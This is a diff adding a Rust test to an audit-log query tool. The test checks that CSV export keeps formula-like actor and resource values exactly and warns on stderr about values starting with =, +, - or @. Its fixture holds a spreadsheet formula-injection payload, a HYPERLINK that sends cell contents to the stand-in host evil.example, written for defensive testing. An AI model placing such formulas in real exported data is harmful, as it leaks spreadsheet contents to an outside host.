@@ -151,3 +151,32 @@ fn machines_get_every_match_by_default_people_the_first_hundred(db: &TestDb) {
     assert!(stderr(&output).contains("showing the first 100 matching events; more match"), "{}", stderr(&output));
 }
 on_all_backends!(machines_get_every_match_by_default_people_the_first_hundred);
+
+#[test]
+fn csv_values_that_a_spreadsheet_would_run_are_kept_and_counted() {
+    let Some(db) = TestDb::open(Backend::Sqlite, "csv_values_that_a_spreadsheet_would_run") else { return };
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    db.record(
+        "default",
+        vec![
+            audit_core::EventDraft::new("login").actor(audit_core::Actor::user(formula)).resource("session", "@SUM(1)"),
+            audit_core::EventDraft::new("login").actor(audit_core::Actor::user("alice")).resource("session", "s1"),
+        ],
+    );
+    let output = run(&["query", "--db", db.url(), "--format", "csv"]);
+    assert_exit(&output, 0);
+    let mut reader = csv::Reader::from_reader(output.stdout.as_slice());
+    let header: Vec<String> = reader.headers().expect("header row").iter().map(str::to_string).collect();
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a CSV row")).collect();
+    let column = |name: &str| header.iter().position(|h| h == name).expect("column");
+    assert_eq!(&rows[0][column("actor_id")], formula, "the evidence is exact");
+    assert_eq!(&rows[0][column("resource_id")], "@SUM(1)");
+    let message = stderr(&output);
+    assert!(message.contains("note: 2 CSV values start with =, +, -, @"), "{message}");
+    assert!(message.contains("as text"), "{message}");
+
+    // Nothing to warn about: nothing said.
+    let output = run(&["query", "--db", db.url(), "--format", "csv", "--actor", "alice"]);
+    assert_exit(&output, 0);
+    assert!(output.stderr.is_empty(), "{}", stderr(&output));
+}
